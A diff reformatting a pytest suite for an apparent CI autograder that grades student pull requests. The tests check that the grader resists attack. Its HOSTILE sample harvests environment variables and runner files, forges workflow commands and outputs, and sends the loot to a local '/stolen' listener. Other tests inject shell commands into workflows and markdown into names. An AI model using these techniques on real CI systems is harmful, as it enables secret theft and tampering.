@@ -34,14 +34,25 @@ def publish(folder: Path, bare: Path) -> str:
 
 
 def found(folder: Path) -> str:
-    """Make both repositories in a folder: the tiny course's, and the class's as it is released. The course's commit."""
-    private, released, held = folder / "private", folder / "released", folder / "repositories" / "school"
+    """Make both repositories in a folder: the tiny course's, and the class's as it is released. The
+    course's commit.
+    """
+    private, released, held = (
+        folder / "private",
+        folder / "released",
+        folder / "repositories" / "school",
+    )
     private.mkdir()
     held.mkdir(parents=True)
     parts = [TINY / name for name in ("course.yaml", "solutions", "grader", "exercises")]
-    for source in (*parts, *(REPOSITORY / name for name in ("Makefile", "pyproject.toml", "constraints.txt", "tools"))):
+    for source in (
+        *parts,
+        *(REPOSITORY / name for name in ("Makefile", "pyproject.toml", "constraints.txt", "tools")),
+    ):
         (copy_course if source.is_dir() else shutil.copy)(source, private / source.name)
-    files = [p for p in (TINY / "exercises").rglob("*") if p.is_file() and "__pycache__" not in p.parts]
+    files = [
+        p for p in (TINY / "exercises").rglob("*") if p.is_file() and "__pycache__" not in p.parts
+    ]
     course = load_course(TINY)
     hand_over(course, released, bundle(course, files, "@school"))
     publish(released, held / "class.git")
@@ -73,14 +84,23 @@ class School:
         return work
 
     def pull_request(
-        self, number: int, changes: Mapping[str, str | Path], login: str = "ada", fork: bool = False, **more: str
+        self,
+        number: int,
+        changes: Mapping[str, str | Path],
+        login: str = "ada",
+        fork: bool = False,
+        **more: str,
     ) -> dict[str, Any]:
-        """The event of a pull request with one commit of these texts and links: of a branch, or of a fork."""
+        """The event of a pull request with one commit of these texts and links: of a branch, or of
+        a fork.
+        """
         work = self.clone()
         for path, change in changes.items():
             (work / path).unlink(missing_ok=True)
             (work / path).parent.mkdir(parents=True, exist_ok=True)
-            (work / path).symlink_to(change) if isinstance(change, Path) else (work / path).write_text(change)
+            (work / path).symlink_to(change) if isinstance(change, Path) else (
+                work / path
+            ).write_text(change)
         git(work, "add", "--all", "--force", ".")
         git(work, "commit", "--quiet", "--allow-empty", "--message", "my attempt")
         head = self.service.heads[number] = git(work, "rev-parse", "HEAD")
@@ -100,7 +120,9 @@ class School:
     def dispatch(self, number: int) -> dict[str, Job]:
         """A run that somebody asked for, to grade a pull request again."""
         about = {"full_name": "school/class", "default_branch": "main"}
-        return self.run({"inputs": {"pull_request": str(number)}, "repository": about}, "workflow_dispatch")
+        return self.run(
+            {"inputs": {"pull_request": str(number)}, "repository": about}, "workflow_dispatch"
+        )
 
     def begun(self, event: Mapping[str, Any], name: str = "pull_request_target") -> Run:
         """A run that has a folder of its own, and no job yet."""
@@ -114,7 +136,10 @@ class School:
 
 
 pytestmark = pytest.mark.journey
-NO_RUNNER = "**On a GPU:** Not run: this class has no GPU runner (the repository variable GPU_RUNNER is empty)."
+NO_RUNNER = (
+    "**On a GPU:** Not run: this class has no GPU runner (the repository variable GPU_RUNNER "
+    "is empty)."
+)
 TO_THE_RUNNER = re.compile(r"(?m)^\s*::|##\[")  # what a step may say to it through its output
 
 
@@ -135,7 +160,9 @@ def school(founded: tuple[Path, str], tmp_path: Path) -> Iterator[School]:
 
 
 def nothing_is_left(job: Job) -> None:
-    """After every step: the key and the job's token are in no file, and nobody has spoken to the runner."""
+    """After every step: the key and the job's token are in no file, and nobody has spoken to the
+    runner.
+    """
     assert not TO_THE_RUNNER.search(job.said), job.said
     for path in job.folder.rglob("*"):
         if path.is_file() and not path.is_symlink() and ".venv" not in path.parts:
@@ -163,12 +190,19 @@ def remark(school: School) -> dict[str, Any]:
     return annotation
 
 
-def test_a_right_attempt_is_graded_on_both_and_the_next_push_takes_its_place(school: School) -> None:
+def test_a_right_attempt_is_graded_on_both_and_the_next_push_takes_its_place(
+    school: School,
+) -> None:
     school.variables["GPU_RUNNER"] = "gpu-box"
     right = school.pull_request(1, {SCRIPT: RIGHT})
     jobs = school.run(right)
     assert_ended(jobs, approval="success", gpu="success")
-    assert [job.label for job in jobs.values()] == ["ubuntu-24.04", "ubuntu-24.04", "gpu-box", "ubuntu-24.04"]
+    assert [job.label for job in jobs.values()] == [
+        "ubuntu-24.04",
+        "ubuntu-24.04",
+        "gpu-box",
+        "ubuntu-24.04",
+    ]
     said = comment(school, 1)
     assert said.startswith("## Averages: 4 / 4\n")
     assert f"## On the GPU runner \\({DEVICE}\\): 4 / 4\n" in said
@@ -191,8 +225,15 @@ def test_a_right_attempt_is_graded_on_both_and_the_next_push_takes_its_place(sch
     run = school.service.check_runs[-1]
     assert (run["head_sha"], run["conclusion"]) == (wrong["pull_request"]["head"]["sha"], "failure")
     assert run["output"]["title"] == "2 / 4"
-    kept = sorted(path.name.split("-")[0:2] for path in (school.service.repositories.parent / "caches").iterdir())
-    assert kept == [["graded", "cpu"]] * 2 + [["graded", "gpu"], ["grader", "cpu"], ["grader", "gpu"]]
+    kept = sorted(
+        path.name.split("-")[0:2]
+        for path in (school.service.repositories.parent / "caches").iterdir()
+    )
+    assert kept == [["graded", "cpu"]] * 2 + [
+        ["graded", "gpu"],
+        ["grader", "cpu"],
+        ["grader", "gpu"],
+    ]
     assert remark(school)["path"] == SCRIPT
     assert WRONG.splitlines()[remark(school)["start_line"] - 1] == "def running_mean(x):"
     assert "You divided by the length of x everywhere." in remark(school)["message"]
@@ -210,16 +251,27 @@ def test_a_fork_is_graded_alike_and_from_its_notebook(school: School) -> None:
     assert ".summ()" in text.splitlines()[remark(school)["start_line"] - 1]
 
 
-def test_editing_the_workflow_and_the_grader_changes_nothing(school: School, tmp_path: Path) -> None:
+def test_editing_the_workflow_and_the_grader_changes_nothing(
+    school: School, tmp_path: Path
+) -> None:
     ran = tmp_path / "ran"
     program, shell = f"open({str(ran)!r}, 'w').write('ran')\n", f"touch {ran}\n"
     programs = (
-        "grader/__init__.py", "manyheads/cli/__init__.py", "grader/checks/conftest.py", "conftest.py", "sitecustomize.py",
-        "torch.py", "exercises/averages/conftest.py",
-    )  # fmt: skip
+        "grader/__init__.py",
+        "manyheads/cli/__init__.py",
+        "grader/checks/conftest.py",
+        "conftest.py",
+        "sitecustomize.py",
+        "torch.py",
+        "exercises/averages/conftest.py",
+    )
     changes = {
-        WORKFLOW: (REPOSITORY / WORKFLOW).read_text().replace("run: sh course/tools/allow-namespaces", f"run: {shell}"),
-        ".github/workflows/mine.yml": f"on: pull_request\njobs: {{x: {{steps: [{{run: '{shell}'}}]}}}}\n",
+        WORKFLOW: (REPOSITORY / WORKFLOW)
+        .read_text()
+        .replace("run: sh course/tools/allow-namespaces", f"run: {shell}"),
+        ".github/workflows/mine.yml": (
+            f"on: pull_request\njobs: {{x: {{steps: [{{run: '{shell}'}}]}}}}\n"
+        ),
         **dict.fromkeys(programs, program),
         "course.yaml": "title: Mine\n",
         "requirements.txt": "./evil\n",
@@ -239,18 +291,22 @@ HOSTILE = """
 import glob, os, socket, sys
 
 LOOT = " ".join(os.environ.values())
-for word in ("::set-output name=hygiene::clean", "::add-mask::4", "::stop-commands::x", "::error::x", "##[error]x"):
+for word in ("::set-output name=hygiene::clean", "::add-mask::4", "::stop-commands::x", \
+"::error::x", "##[error]x"):
     print(word, flush=True)
     print(word, file=sys.stderr, flush=True)
-files = [os.environ.get(name, "") for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STEP_SUMMARY")]
-for path in (*files, "/proc/self/environ", "/proc/1/environ", *glob.glob("FOLDER/**", recursive=True)):
+files = [os.environ.get(name, "") for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", \
+"GITHUB_STEP_SUMMARY")]
+for path in (*files, "/proc/self/environ", "/proc/1/environ", *glob.glob("FOLDER/**", \
+recursive=True)):
     try:
         LOOT += open(path, errors="replace").read()
         open(path, "a").write("hygiene=clean\\nEVIL=1\\n")
     except OSError:
         pass
 try:
-    socket.create_connection(("127.0.0.1", PORT), 1).sendall(f"GET /stolen?{LOOT!r} HTTP/1.0\\r\\n\\r\\n".encode())
+    socket.create_connection(("127.0.0.1", PORT), 1).sendall(f"GET /stolen?{LOOT!r} \
+HTTP/1.0\\r\\n\\r\\n".encode())
 except OSError:
     pass
 
@@ -259,7 +315,8 @@ class Teacher(ValueError):
     pass
 
 
-Teacher.__name__ = Teacher.__qualname__ = "</pre></details> @teacher ![x](https://example.org/x.png) #1"
+Teacher.__name__ = Teacher.__qualname__ = "</pre></details> @teacher \
+![x](https://example.org/x.png) #1"
 
 
 def running_mean(x):
@@ -299,7 +356,8 @@ def forbid_namespaces(school: School, event: dict[str, Any]) -> None:
     """A runner where nobody may make namespaces, not even after asking."""
     tools = school.folder / "tools"
     tools.mkdir()
-    for name in ("bwrap", "setpriv", "sudo"):  # setpriv: as root, bubblewrap is tried as somebody else
+    # setpriv: as root, bubblewrap is tried as somebody else
+    for name in ("bwrap", "setpriv", "sudo"):
         (tools / name).write_text("#!/bin/sh\nexit 1\n")
         (tools / name).chmod(0o755)
     school.options["tools"] = str(tools)
@@ -312,15 +370,29 @@ def take_away(school: School, event: dict[str, Any]) -> None:
 
 COLLECTS = "Collect the exercise files"
 LACKING: dict[str, tuple[Callable[[School, dict[str, Any]], object], str, str]] = {
-    "a branch in place of a commit": (lambda s, e: setattr(s, "course_ref", "main"), "Demand that the course is pinned to a commit", "not yours"),
-    "a key that opens nothing": (lambda s, e: setattr(s, "course_key", "another"), "Fetch the private course", "not yours"),
+    "a branch in place of a commit": (
+        lambda s, e: setattr(s, "course_ref", "main"),
+        "Demand that the course is pinned to a commit",
+        "not yours",
+    ),
+    "a key that opens nothing": (
+        lambda s, e: setattr(s, "course_key", "another"),
+        "Fetch the private course",
+        "not yours",
+    ),
     "no user namespaces": (forbid_namespaces, "Allow user namespaces", "not yours"),
-    "files that cannot be fetched": (take_away, COLLECTS, "The files of this pull request could not be read."),
-}  # fmt: skip
+    "files that cannot be fetched": (
+        take_away,
+        COLLECTS,
+        "The files of this pull request could not be read.",
+    ),
+}
 
 
 @pytest.mark.parametrize(("set_up", "failed", "says"), LACKING.values(), ids=LACKING)
-def test_without_what_it_needs_nothing_is_graded_and_the_student_is_told(school, set_up, failed, says):
+def test_without_what_it_needs_nothing_is_graded_and_the_student_is_told(
+    school, set_up, failed, says
+):
     event = school.pull_request(6, {SCRIPT: RIGHT})
     set_up(school, event)
     jobs = school.run(event)
@@ -334,7 +406,9 @@ def test_without_what_it_needs_nothing_is_graded_and_the_student_is_told(school,
 @pytest.mark.parametrize(
     ("grading", "login"), [("", "ada"), ("on", "updates[bot]")], ids=["grading is not on", "a bot"]
 )
-def test_where_nothing_is_to_be_graded_nothing_runs(school: School, grading: str, login: str) -> None:
+def test_where_nothing_is_to_be_graded_nothing_runs(
+    school: School, grading: str, login: str
+) -> None:
     school.variables["GRADING"] = grading
     jobs = school.run(school.pull_request(7, {SCRIPT: RIGHT}, login=login, fork=True))
     assert {job.result for job in jobs.values()} == {"skipped"}
@@ -347,8 +421,12 @@ def test_a_pull_request_without_an_attempt_needs_no_grading(school: School) -> N
     assert school.service.check_runs[-1]["conclusion"] == "neutral"
 
 
-def test_an_attempt_that_was_merged_is_no_stub_and_gets_no_gpu_that_nobody_approves(school: School) -> None:
-    """Only the private course knows the stubs: what the class repository's branch holds may be somebody's attempt."""
+def test_an_attempt_that_was_merged_is_no_stub_and_gets_no_gpu_that_nobody_approves(
+    school: School,
+) -> None:
+    """Only the private course knows the stubs: what the class repository's branch holds may be
+    somebody's attempt.
+    """
     school.variables["GPU_RUNNER"] = "gpu-box"
     school.options["refused"] = "gpu-approval"
     work = school.clone()
